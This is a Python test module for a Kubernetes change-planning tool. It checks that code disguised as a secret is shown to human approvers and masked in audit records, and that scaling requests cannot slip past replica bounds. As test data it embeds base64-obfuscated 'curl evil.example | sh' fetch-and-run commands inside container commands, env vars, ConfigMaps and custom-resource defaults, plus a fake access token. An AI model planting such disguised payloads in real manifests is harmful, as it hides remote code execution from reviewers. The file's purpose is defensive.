"""Plans that would hide what they do: code that looks like a secret, so that an approver sees only a mask, and scales
whose number of replicas is in no row; on a real API server.
"""

from __future__ import annotations

import base64
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import pytest
from kubernetes import client

from kubescript.changes import plan
from kubescript.changes.store import record
from kubescript.changes.view import plain
from tests.kit import clients, people
from tests.kit.controlplane import official_client, shared
from tests.kit.controlplane.writer import Object, Writer

pytestmark = [pytest.mark.cluster, pytest.mark.promise("P-19"), pytest.mark.timeout(300)]

NAMESPACE: Final = f"masks-{secrets.token_hex(3)}"
CODE: Final = base64.b64encode(b"curl -s http://evil.example/x7Kq2 | sh -x").decode()
"""Code as its readers do not see it, which a shell decodes and runs."""
BEHIND_PASSWORD: Final = f"export DB_PASSWORD={CODE}; echo $DB_PASSWORD | base64 -d | sh"
PASSWORD: Final = "Tr0ub4dor-3-horse"
TOKEN: Final = "ghp_" + "Xk29fQ7mZt4LwV8sYb1NcR6hJd3PgA5eUoBi"


@dataclass(frozen=True)
class Place:
    """A server in plan mode, with an audit log, and its namespace."""

    server: people.Server
    talk: people.Talk
    core: Any
    apps: Any
    audit: Path

    def plan(self, script: str) -> record.Record:
        """The plan that a script leaves."""
        return self.server.kept(self.talk.plan(script))


@pytest.fixture(scope="module")
def place(run_folder: Path, run_process: int, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    plane = shared.attach("scratch", run_folder, run_process)
    writer = Writer(plane.kubeconfig)
    writer.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
    writer.create(deployment("web"))
    writer.create(DEFINITION)
    writer.create(pool("b", replicas=3))
    api = official_client.connect(plane.kubeconfig)
    folder = tmp_path_factory.mktemp("masks")
    audit = folder / "audit.jsonl"
    flags = [*people.flags(folder, plane.kubeconfig, SETTINGS), "--audit", str(audit)]
    with people.server(flags, people.environment(folder)) as server, server.talk() as talk:
        yield Place(server, talk, client.CoreV1Api(api), client.AppsV1Api(api), audit)


SETTINGS: Final = "[write_policy]\nreplicas = [2, 100]\n"


def deployment(name: str, **container: Any) -> Object:
    """A Deployment with one container."""
    web = {"name": "web", "image": "web:1", "env": [{"name": "DB_PASSWORD", "value": PASSWORD}], **container}
    template = {"metadata": {"labels": {"app": name}}, "spec": {"containers": [web]}}
    spec = {"replicas": 2, "selector": {"matchLabels": {"app": name}}, "template": template}
    metadata = {"name": name, "namespace": NAMESPACE}
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec}


def settings_of(text: str) -> Object:
    """A ConfigMap with a file that pods run."""
    metadata = {"name": "run", "namespace": NAMESPACE}
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {"run.sh": text}}


def patch(body: object) -> str:
    """A script that patches the Deployment."""
    return f'k8s.AppsV1Api().patch_namespaced_deployment("web", "{NAMESPACE}", {body!r})\n1'


def pool(name: str, **spec: Any) -> Object:
    """A custom resource whose number of replicas is not in `spec.replicas`."""
    metadata = {"name": name, "namespace": NAMESPACE}
    return {"apiVersion": f"{NAMESPACE}.example/v1", "kind": "Pool", "metadata": metadata, "spec": {"size": 5, **spec}}


SPEC: Final = {
    "type": "object",
    "properties": {
        "size": {"type": "integer"}, "replicas": {"type": "integer"},
        "args": {"type": "string", "default": f"export DB_PASSWORD={CODE}"},
    },
}  # fmt: skip
STATUS: Final = {"type": "object", "properties": {"size": {"type": "integer"}}}
VERSION: Final[Object] = {
    "name": "v1", "served": True, "storage": True,
    "schema": {"openAPIV3Schema": {"type": "object", "properties": {"spec": SPEC, "status": STATUS}}},
    "subresources": {"status": {}, "scale": {"specReplicasPath": ".spec.size", "statusReplicasPath": ".status.size"}},
}  # fmt: skip
DEFINITION: Final[Object] = {
    "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
    "metadata": {"name": f"pools.{NAMESPACE}.example"},
    "spec": {
        "group": f"{NAMESPACE}.example", "scope": "Namespaced", "names": {"kind": "Pool", "plural": "pools"},
        "versions": [VERSION],
    },
}  # fmt: skip


CONTAINER: Final = "/spec/template/spec/containers/0"
SHELL: Final = ["sh", "-c", BEHIND_PASSWORD]
CONTAINERS: Final[Object] = {"spec": {"template": {"spec": {"containers": [{"name": "web", "args": SHELL}]}}}}
HIDDEN: Final = {
    "a command, in what is created": f"k8s.AppsV1Api().create_namespaced_deployment({NAMESPACE!r}, "
    f"{deployment('new', command=SHELL)!r})\n1",
    "a command, in what is applied": f"k8s.apply({deployment('applied', command=SHELL)!r})\n1",
    "arguments, in a strategic merge patch": patch(CONTAINERS),
    "a command, in a JSON patch": patch([{"op": "add", "path": f"{CONTAINER}/command", "value": SHELL}]),
    "a variable, in a JSON patch": patch(
        [{"op": "add", "path": f"{CONTAINER}/env/-", "value": {"name": "RUN_PASSWORD", "value": BEHIND_PASSWORD}}]
    ),
    "a file": f"k8s.apply({settings_of(BEHIND_PASSWORD)!r})\n1",
}


@pytest.mark.parametrize("name", HIDDEN)
def test_code_that_looks_like_a_secret_is_shown_to_the_approver_alone(name: str, place: Place) -> None:
    """The approver reads the request's own words and how much the record hides; the store's rows have masks."""
    entry = place.plan(HIDDEN[name])
    (step,) = entry.plan.steps
    shown = plain.text(entry, 400)
    assert BEHIND_PASSWORD in shown and "on record redacted: 1 line, " in shown
    assert CODE not in repr(step.rows)
    assert hidden(step) == [("writes.hidden", "warning")]


def test_code_between_a_keys_lines_is_no_key(place: Place) -> None:
    """What is no base64 has no mask at all: neither the approver's nor the record's."""
    begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
    code = f"{begin}\n/usr/bin/curl http://evil.example/x | sh\n{end}"
    entry = place.plan(patch([{"op": "add", "path": f"{CONTAINER}/command", "value": ["sh", "-c", code]}]))
    (step,) = entry.plan.steps
    assert "evil.example/x | sh" in plain.text(entry, 400) and "evil.example/x | sh" in repr(step.rows)
    assert hidden(step) == []


def test_a_form_shows_it_and_neither_the_answer_nor_the_record_has_it(place: Place) -> None:
    """A person at a client reads it, approves, and exactly that is sent."""
    person = people.Client()
    with place.server.talk(person) as talk:
        answer = talk.ask(f"k8s.apply({settings_of(BEHIND_PASSWORD)!r})\n1")
    (question,) = person.questions
    assert CODE in "".join(question.message.split()) and CODE not in clients.whole(answer)
    assert place.core.read_namespaced_config_map("run", NAMESPACE).data == {"run.sh": BEHIND_PASSWORD}
    assert CODE not in place.audit.read_text()


def test_new_text_that_the_request_does_not_contain_is_a_critical_finding(place: Place) -> None:
    """The default of a custom resource adds a secret that no approver can read, so one must take it on with a reason."""
    entry = place.plan(f"k8s.apply({pool('a')!r})\n1")
    assert hidden(entry.plan.steps[0]) == [("writes.hidden", "critical")]
    shown = plain.text(entry, 400)
    assert "CRITICAL writes.hidden" in shown and "redacted: 1 line, 56 bytes of new text" in shown
    assert CODE not in shown
    again = place.plan(f"k8s.apply({pool('a', args=BEHIND_PASSWORD)!r})\n1")
    assert hidden(again.plan.steps[0]) == [("writes.hidden", "warning")]


def test_a_name_that_looks_like_a_secret_is_a_critical_finding(place: Place) -> None:
    """Its mask stands in the path, where nothing of the request is shown in its place."""
    entry = place.plan(patch({"metadata": {"annotations": {TOKEN: "x"}}}))
    assert hidden(entry.plan.steps[0]) == [("writes.hidden", "critical")]


def test_what_the_old_object_has_masked_in_the_same_field_stays_masked(place: Place) -> None:
    """A password with which another image runs is not new; the same text in another variable or container is, and is
    shown."""
    container = deployment("web")["spec"]["template"]["spec"]["containers"][0]
    entry = place.plan(patch([{"op": "replace", "path": CONTAINER, "value": {**container, "image": "web:2"}}]))
    assert PASSWORD not in plain.text(entry, 400) and hidden(entry.plan.steps[0]) == []
    moved = {"op": "add", "path": f"{CONTAINER}/env/-", "value": {"name": "RUN_PASSWORD", "value": PASSWORD}}
    other = {"op": "replace", "path": CONTAINER, "value": {**container, "name": "renamed"}}
    for operation in (moved, other):
        entry = place.plan(patch([operation]))
        assert PASSWORD in plain.text(entry, 400)
        assert hidden(entry.plan.steps[0]) == [("writes.hidden", "warning")]


POOLS: Final = f"{NAMESPACE}.example"
DOWN: Final = {
    "a patch": f'k8s.scale("deployments/web", 0, namespace="{NAMESPACE}")\n1',
    "a patch that removes the number": "k8s.AppsV1Api().patch_namespaced_deployment_scale("
    f'"web", "{NAMESPACE}", {{"spec": {{"replicas": None}}}})\n1',
    "an update without the number": "k8s.AppsV1Api().replace_namespaced_deployment_scale("
    f'"web", "{NAMESPACE}", {{"metadata": {{"name": "web", "namespace": "{NAMESPACE}"}}, "spec": {{}}}})\n1',
    "a JSON patch of all": "k8s.AppsV1Api().patch_namespaced_deployment_scale("
    f'"web", "{NAMESPACE}", [{{"op": "replace", "path": "/spec", "value": {{}}}}])\n1',
    "the object itself": patch({"spec": {"replicas": 0}}),
    "the object's default": patch({"spec": {"replicas": None}}),
    "a custom resource": "k8s.CustomObjectsApi().patch_namespaced_custom_object_scale("
    f'"{POOLS}", "v1", "{NAMESPACE}", "pools", "b", {{"spec": {{"replicas": 0}}}})\n1',
    "a custom resource, up": "k8s.CustomObjectsApi().patch_namespaced_custom_object_scale("
    f'"{POOLS}", "v1", "{NAMESPACE}", "pools", "b", {{"spec": {{"replicas": 101}}}})\n1',
}


@pytest.mark.parametrize("name", DOWN)
def test_no_scaling_evades_the_bounds(name: str, place: Place) -> None:
    """`replicas = [2, 100]` holds for what the API server makes of a request, whatever the request and its answer say."""
    answer = place.talk.ask(DOWN[name])
    assert answer.is_error and "writes.replicas" in clients.whole(answer)
    (step,) = place.plan(f'k8s.scale("deployments/web", 3, namespace="{NAMESPACE}")\n1').plan.steps
    assert [(row.path, row.old, row.new) for row in step.rows] == [("spec.replicas", "2", "3")]


@pytest.mark.parametrize("verb", ["patch", "replace"])
def test_the_scale_of_a_custom_resource_is_compared_with_its_scale(verb: str, place: Place) -> None:
    """Its own `spec.replicas` means nothing; what is shown is sent, and taken back."""
    custom: Any = client.CustomObjectsApi(place.core.api_client)
    metadata = {"name": "b", "namespace": NAMESPACE}
    body = {"apiVersion": "autoscaling/v1", "kind": "Scale", "metadata": metadata, "spec": {"replicas": 7}}
    script = f'k8s.CustomObjectsApi().{verb}_namespaced_custom_object_scale("{POOLS}", "v1", "{NAMESPACE}", "pools", "b", {body!r})\n1'
    with place.server.talk(people.Client()) as talk:
        assert not talk.ask(script).is_error
    applied = place.server.newest()
    (step,) = applied.plan.steps
    assert [(row.path, row.old, row.new) for row in step.rows] == [("spec.replicas", "5", "7")]
    assert custom.get_namespaced_custom_object(POOLS, "v1", NAMESPACE, "pools", "b")["spec"]["size"] == 7
    assert step.undo is not None and step.undo.body == '[{"op":"add","path":"/spec/replicas","value":5}]'
    custom.patch_namespaced_custom_object(POOLS, "v1", NAMESPACE, "pools", "b", {"spec": {"size": 5}})


def hidden(step: plan.Step) -> list[tuple[str, str]]:
    """The findings on what masks hide."""
    return [(each.rule, each.level) for each in step.findings if each.rule == "writes.hidden"]
